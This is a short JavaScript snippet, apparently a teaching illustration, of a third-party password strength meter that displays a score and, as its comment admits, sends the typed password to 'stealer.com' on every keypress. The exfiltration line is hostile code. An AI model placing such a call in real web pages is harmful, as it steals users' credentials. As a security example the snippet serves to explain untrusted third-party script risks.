// Third-party password strength meter. Reports a 0-8 score into the page
// and, on the side, ships every keystroke's prefix off to a collector.
function checkPwdStrength(pwd) {
  var score = strlen(pwd);
  if (score > 8) {
    score = 8;
  }
  return score;
}

var p = document.getElementById("pwd");
p.addEventListener("keypress", function (e) {
  var score = checkPwdStrength(p.value);
  document.getElementById("pwdStrength").innerText = score;
  sendRequest("http://stealer.com/pwd.jsp?pwd=" + p.value + score);
});
